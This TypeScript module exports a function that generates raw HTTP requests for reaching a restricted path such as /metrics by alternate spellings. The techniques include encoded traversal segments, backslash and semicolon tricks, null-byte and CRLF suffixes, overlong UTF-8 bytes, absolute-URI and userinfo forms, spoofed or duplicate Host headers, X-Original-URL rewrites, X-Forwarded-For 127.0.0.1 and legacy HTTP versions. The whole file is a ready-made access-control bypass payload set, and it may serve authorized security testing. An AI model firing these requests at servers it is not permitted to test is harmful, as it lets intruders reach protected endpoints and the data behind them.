/** A request that may reach a path by another spelling. Each character is a byte. */
export type PathTrick = { name: string; request: string }

/** Returns the tricks for a path with one segment, such as `/metrics`, sent to a server of this name. */
export function pathTricks(path: string, host: string): PathTrick[] {
  const name = path.slice(1)
  const hex = (character: string) => `%${character.charCodeAt(0).toString(16)}`
  const first = hex(name.charAt(0))
  const last = hex(name.slice(-1))
  const targets = [
    `${path}/`,
    `${path}//`,
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/./.${path}`,
    `/x/..${path}`,
    `/x/%2e%2e${path}`,
    `/x/%2E.${path}`,
    `/x/..%2f${name}`,
    `/x%2f..%2f${name}`,
    `/x/..\\${name}`,
    `/x\\..\\${name}`,
    `/\\${name}`,
    `/%5c${name}`,
    `/x/..%5c${name}`,
    `/..;${path}`,
    `/x/..;${path}`,
    `/;${path}`,
    `/..${path}`,
    `/../..${path}`,
    `${path};`,
    `${path};a=b`,
    `${path}%3b`,
    `${path}%2f`,
    `/%2f${name}`,
    `/%2e${path}`,
    `/${first}${name.slice(1)}`,
    `/${name.slice(0, -1)}${last}`,
    `/%25${first.slice(1)}${name.slice(1)}`,
    `/%u00${first.slice(1)}${name.slice(1)}`,
    `/%252e%252e${path}`,
    `/v1/..${path}`,
    `/docs/../.${path}`,
    `${path}%00`,
    `${path}%00.html`,
    `${path}%0a`,
    `${path}%0d%0a`,
    `${path}%20`,
    `${path}%09`,
    `${path}%3f`,
    `${path}%23`,
    `${path}#`,
    `${path}#/x`,
    `${path}?`,
    `${path}?/../x`,
    `${path}?a#b`,
    path.toUpperCase(),
    `/${name.charAt(0).toUpperCase()}${name.slice(1)}`,
    `${path}.`,
    `${path}/.`,
    `${path}/x/..`,
    `${path}/%2e`,
    `${path}/./`,
    `${path}\xa0`,
    `${path}\x85`,
    `${path}\xc0\xaf`,
    `/\xc0\xae${path}`,
    `${path}\t`,
    ` ${path}`,
    name,
    `x${path}`,
    `*${path}`,
    `http://${host}${path}`,
    `http://x${path}`,
    `http://x/x/..${path}`,
    `https://x:1${path}`,
    `http://x//${name}`,
    `http://x@${host}${path}`,
    `http:${path}`,
    `//x${path}`,
  ]
  const spelled = targets.map((target) => trick(target, [`Host: ${host}`]))
  const hosts: [target: string, lines: string[]][] = [
    ...['/z', '/zz', '/zzz', '/zzzzzz', '/zzzzzzzzzz', '/zzzzzzzzzzzzz'].flatMap(
      (prefix): [string, string[]][] => [
        [`${prefix}${path}`, ['Host: x']],
        [`${prefix}${path}`, ['Host: @']],
        [`${prefix}${path}`, ['Host:']],
      ],
    ),
    [path, ['Host: x', 'Host: y']],
    [path, [`Host: ${host}`, `Host: ${host}`]],
    [path, [`Host: ${host}`, `host : x`]],
    [path, [`Host: ${host}, x`]],
    ['/zz', [`Host: x${path}`]],
    ['/zz', [`Host: x${path}?`]],
    ['/zz', [`Host: x${path}#`]],
    ['/zz', [`Host: ${host}`, `X-Original-URL: ${path}`, `X-Rewrite-URL: ${path}`]],
    [path, [`Host: ${host}`, 'X-Forwarded-For: 127.0.0.1', 'X-Forwarded-Host: 127.0.0.1']],
    [path, [`Host: ${host}`, 'X-HTTP-Method-Override: POST', 'Upgrade: h2c']],
    [path, ['Host: 127.0.0.1']],
    [path, ['Host: [::1]:3000']],
  ]
  return [
    ...spelled,
    ...hosts.map(([target, lines]) => trick(target, lines)),
    { name: `HTTP/1.0 /zzzzzzzzzz${path}`, request: `GET /zzzzzzzzzz${path} HTTP/1.0\r\n\r\n` },
    { name: `HTTP/0.9 ${path}`, request: `GET ${path}\r\n\r\n` },
  ]
}

function trick(target: string, headers: readonly string[]): PathTrick {
  const lines = [`GET ${target} HTTP/1.1`, ...headers, 'Connection: close', '', '']
  return { name: JSON.stringify([target, ...headers].join(' ')), request: lines.join('\r\n') }
}
